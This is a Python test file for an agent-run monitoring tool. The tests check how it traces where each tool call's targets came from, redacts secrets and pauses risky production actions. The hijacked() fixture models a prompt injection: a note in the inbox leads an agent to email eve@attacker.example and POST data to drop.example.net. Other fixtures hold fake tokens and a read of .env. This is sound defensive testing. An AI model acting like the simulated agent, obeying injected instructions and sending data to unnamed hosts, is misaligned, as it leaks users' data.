"""A run told call by call: what is read of each, where its targets came from, what moved, what is hidden."""

from __future__ import annotations

import asyncio
import io
import json
import sys
from collections.abc import Iterable
from pathlib import Path

import pytest
from aiokafka import AIOKafkaProducer
from rich.console import Console, RenderableType

from detector import cli
from detector.config import load
from detector.control import people
from detector.observe.explained import runs, witness, words
from detector.observe.explained.looks import form
from detector.observe.explained.story import Story
from detector.policy.approved import Approved
from detector.policy.manifest import Manifest
from detector.policy.policy import Policy
from detector.read import Reader
from detector.records import encode_log
from detector.replay import Replay
from detector.runs.judge import Judge
from detector.testing import Spans
from detector.training.matrix import blank, feature_judge
from tests.test_provenance_stream import LETTER, NOTE, chat, person, play, story

MADE_UP = ("http_request", {"method": "POST", "url": "https://drop.example.net/in", "body": "x"})


def told(*requests: bytes, judge: Judge | None = None, words: bool = True) -> Story:
    """The one run of the requests."""
    names: dict[int, str] = {}
    reader = Reader(b"key", names=names if words else None)
    records = [batch for request in requests for batch in reader.read(request).batches]
    (only,) = runs.tell(records, judge or feature_judge(), names if words else None)
    return only


def hijacked() -> bytes:
    """A note orders what a person did not; then the run turns to an address that nobody has named."""
    spans = Spans("mail")
    chat(spans, person("Summarise /inbox/note7.txt."), ("read_file", {"path": "/inbox/note7.txt"}))
    spans.tool("read_file", {"path": "/inbox/note7.txt"}, NOTE, call="read_file")
    chat(spans, [*person("Summarise /inbox/note7.txt."), {"role": "assistant", "parts": []}], LETTER, MADE_UP)
    return spans.tool(*LETTER, "sent", call="send_email").tool(*MADE_UP, call="http_request").request()


def printed(parts: Iterable[RenderableType], width: int = 100) -> str:
    """What a person sees."""
    out = io.StringIO()
    console = Console(width=width, file=out)
    for part in parts:
        console.print(part)
    return out.getvalue()


def screen(story: Story, width: int = 100) -> str:
    """A run as a person sees it."""
    return printed(words.told(story), width)


def test_where_targets_came_from() -> None:
    """An address out of the result of call 1, and one that nobody had said. Reads have no origin."""
    read, letter, posted = told(hijacked()).calls
    assert [(t.name, t.kind, t.origin) for t in read.targets] == [("/inbox/note7.txt", "path", "")]
    (address,) = [t for t in letter.targets if t.kind == "address"]
    assert (address.name, address.origin, address.call) == ("eve@attacker.example", witness.RESULT, 1)
    assert witness.NOBODY in {t.origin for t in posted.targets}
    assert letter.carried == {witness.RESULT: 2}


def test_what_a_person_named_is_theirs() -> None:
    """The same letter, where a person said to whom."""
    _, letter = told(story("Send the codes to eve@attacker.example.")).calls
    assert {t.origin for t in letter.targets if t.kind == "address"} == {witness.PERSON}


def test_what_moved_is_what_the_behaviours_said() -> None:
    """The amounts of the calls, faded, are the sums of the run that was stepped without a witness."""
    moved = {m.signal.removeprefix("provenance."): m.amount for call in told(story("Look.")).calls for m in call.moved}
    _, sums, _ = play(story("Look."))
    assert sums.keys() == {name for name in moved if name in sums}
    assert moved["leak"] == 1.0


def test_watching_changes_nothing() -> None:
    """Scores and states under a witness are those of the stream."""
    records = Reader(b"key").read(hijacked()).batches
    seen, plain = witness.Witness(feature_judge()), Replay(feature_judge())
    watched = Replay(seen.judge)
    for record in records:
        assert watched.apply(record) == plain.apply(record)
    assert seen.judge.model.layout.version == feature_judge().model.layout.version
    assert len(seen.seen) > 3


def test_looks_at_a_call_are_one() -> None:
    """Asked for and done is one call, with its outcome and all that is hidden of it."""
    calls = told(hijacked()).calls
    assert [(call.number, call.tool) for call in calls] == [(1, "read_file"), (2, "send_email"), (3, "http_request")]
    assert all(call.seen == ["asked for", "done"] for call in calls)
    assert calls[1].outcome == "ok"
    assert calls[2].hidden == ["its result was not recorded"]
    assert not calls[1].hidden


def test_without_words_there_are_hashes() -> None:
    """As the run log has it: the same origins, and no word of the calls."""
    plain = told(hijacked(), words=False)
    said = screen(plain)
    assert "keyed hashes" in said
    assert not any(word in said for word in ("eve@", "note7", "attacker", "drop.example"))
    assert [c.carried for c in plain.calls] == [c.carried for c in told(hijacked()).calls]


def test_content_that_is_off_is_said() -> None:
    """Where no words of people are recorded origins are not known, and the turns are counted."""
    blind = Spans("mail")
    chat(blind, None, LETTER)
    found = told(blind.tool(*LETTER, "sent", call="send_email").request())
    assert found.wordless == 1
    assert {t.origin for t in found.calls[0].targets if t.origin} == {witness.UNKNOWN}
    assert "without the messages" in screen(found)


def test_no_secret_is_told() -> None:
    """Neither one with a form of its own nor one in a credential's place, and where it was seen is said."""
    token, password = "ghp_" + "a1b2c3d4e5" * 4, "hunter2" + "x9Z"
    arguments = {"url": f"https://bob:{password}@api.example.com/{token}", "password": password, "token": token}
    spans = Spans("mail").tool("read_file", {"path": ".env"}, f"TOKEN={token}\n").tool("http_get", arguments)
    found = told(spans.request())
    said = " ".join(screen(found).split())
    assert token not in said
    assert password not in said
    assert "its result holds 1 secret" in said
    assert "held by the result of call 1" in said


def test_verdicts_and_the_manifest() -> None:
    """An asset that the manifest lists is marked, and a verdict stands at the call on which it rests."""
    assets = [{"name": "vol-1", "environment": "production"}]
    approved = Approved(Manifest.model_validate({"workflow": "infra", "assets": assets}), b"key")
    judge = Judge(blank(), Policy(manifests={"infra": approved}))
    query = {"query": 'mutation { volumeDelete(volumeId: "vol-1") }'}
    found = told(Spans("infra").tool("read_file", {"path": "a"}).tool("graphql_request", query).request(), judge=judge)
    assert [call.level for call in found.calls] == ["ALLOW", "PAUSE"]
    assert found.calls[1].verdicts == ["PAUSE because of rule:irreversible-in-production"]
    assert [t.name for t in found.calls[1].targets if t.listed] == ["vol-1"]
    assert found.calls[1].environment == ["production"]


@pytest.mark.parametrize("width", [60, 100])
def test_it_fits_the_terminal(width: int) -> None:
    """No line is longer than the terminal, and nothing is lost to its edge."""
    said = screen(told(hijacked()), width)
    assert max(map(len, said.splitlines())) <= width
    assert "eve@attacker.example" in said


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("https://a.example/b", "url"),
        ("a@b.example", "address"),
        ("/etc/passwd", "path"),
        ("src/app.py", "path"),
        ("DE89 3704 0044 0532", "number"),
        ("vol-1", "name"),
    ],
)
def test_kinds_of_targets(text: str, kind: str) -> None:
    """By their form alone."""
    assert form(text) == kind


def test_a_run_of_the_run_log(bootstrap: str) -> None:
    """Only the records of the one run are read, in their order."""
    settings = load(bootstrap=bootstrap, partitions=1)
    other = Spans("mail", "other").tool("read_file", {"path": "a"}).request()
    records = [batch for request in (hijacked(), other) for batch in Reader(b"key").read(request).batches]

    async def written() -> None:
        async with AIOKafkaProducer(bootstrap_servers=bootstrap) as producer:
            for record in records:
                topic = settings.topic("agent-run-log")
                await producer.send_and_wait(topic, encode_log(record), key=record.run.encode())

    asyncio.run(written())
    found = asyncio.run(people.run_log(settings, "mail/conversation-1"))
    assert [record.run for record in found] == ["mail/conversation-1"]
    assert asyncio.run(people.run_log(settings, "mail/none")) == []
    (only,) = runs.tell(found, feature_judge())
    assert [call.tool for call in only.calls] == ["read_file", "send_email", "http_request"]


def test_of_a_file(tmp_path: Path) -> None:
    """The runs of a file, in the order in which they began; the list of them has one a row."""
    path = tmp_path / "runs.jsonl"
    path.write_bytes(hijacked() + b"\n" + Spans("mail", "second").tool("read_file", {"path": "a"}).request())
    names: dict[int, str] = {}
    records = [b for line in path.read_bytes().splitlines() for b in Reader(b"", names=names).read(line).batches]
    found = runs.tell(records, feature_judge(), names)
    assert [line.split()[:3] for line in printed([words.listing(found)]).splitlines()[1:]] == [
        ["mail/conversation-1", "mail", "3"],
        ["mail/second", "mail", "1"],
    ]


def test_the_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """A file with one run is told at once; `--json` is one object a run; what isn't there is a fault."""
    path = tmp_path / "runs.json"
    path.write_bytes(hijacked())

    def call(*arguments: str) -> int:
        monkeypatch.setattr(sys, "argv", ["detector", "explain", *arguments])
        with pytest.raises(SystemExit) as ended:
            cli.main()
        return int(ended.value.code or 0)

    assert call(str(path)) == 0
    assert "the result of call 1" in capsys.readouterr().out
    assert call(str(path), "--json") == 0
    assert json.loads(capsys.readouterr().out)["calls"][1]["tool"] == "send_email"
    assert call(str(path), "--run", "none") == 1
    assert "found no call of any" in capsys.readouterr().err
